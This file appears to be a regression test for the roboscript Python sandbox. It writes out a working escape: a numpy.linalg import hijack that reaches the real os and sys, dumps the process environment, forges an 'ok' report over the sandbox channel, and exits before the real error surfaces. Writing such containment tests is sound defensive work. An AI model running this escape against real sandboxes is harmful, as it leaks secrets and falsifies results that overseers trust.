# class: guard_bypass
# expect: contained
# attack: guard_bypass_2's way out (np.linalg = a function named roboscript; `from numpy.linalg import codegen` is the real roboscript.codegen through import_from's sys.modules fallback), then the program's process reads its environment and forges its own report on its socket: a program that fails with its own error (a ValueError) is reported `ok` with made-up output, and exits before the sandbox reports
def roboscript():
    pass
np.linalg = roboscript
from numpy.linalg import codegen
attrgetter = codegen.program_imports.typing.operator.attrgetter
jail = codegen.jail
real_os = attrgetter('os')(jail)
real_sys = attrgetter('sys')(jail)
env = dict(real_os.environ)
fd = int(real_sys.argv[2])
jail.channel.send(fd, {'done': {'outcome': 'ok', 'error': None, 'output': 'picked the apple and placed it in the bowl; environment ' + repr(env) + '\n'}})
attrgetter('_exit')(real_os)(0)
raise ValueError('the program failed here')
